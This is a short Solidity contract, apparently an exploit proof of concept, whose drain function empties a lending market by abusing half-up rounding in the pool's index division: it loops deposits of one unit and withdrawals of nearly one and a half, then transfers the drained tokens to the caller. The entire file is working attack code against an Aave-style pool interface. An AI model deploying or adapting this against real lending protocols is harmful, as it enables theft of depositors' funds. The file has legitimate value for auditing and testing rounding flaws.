// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {Erc20} from "../Erc20.sol";
import {LendingPool} from "../LendingPool.sol";

/// Empties a market whose single unit of supply is worth `unit`: a withdrawal of almost 1.5 units burns one unit only,
/// because the division by the index rounds half up. It is an account of its own, so the debt stays elsewhere.
contract Rounder {
    function drain(LendingPool pool, Erc20 token, address market, uint256 unit) external {
        token.approve(address(pool), type(uint256).max);
        uint256 nearlyOneAndAHalf = unit * 3 / 2 - 1;
        pool.deposit(address(token), 2 * unit, address(this), 0);
        pool.withdraw(address(token), nearlyOneAndAHalf, address(this));
        while (true) {
            pool.deposit(address(token), unit, address(this), 0);
            uint256 left = token.balanceOf(market);
            bool isLast = left < nearlyOneAndAHalf;
            pool.withdraw(address(token), isLast ? left : nearlyOneAndAHalf, address(this));
            if (isLast) break;
        }
        token.transfer(msg.sender, token.balanceOf(address(this)));
    }
}
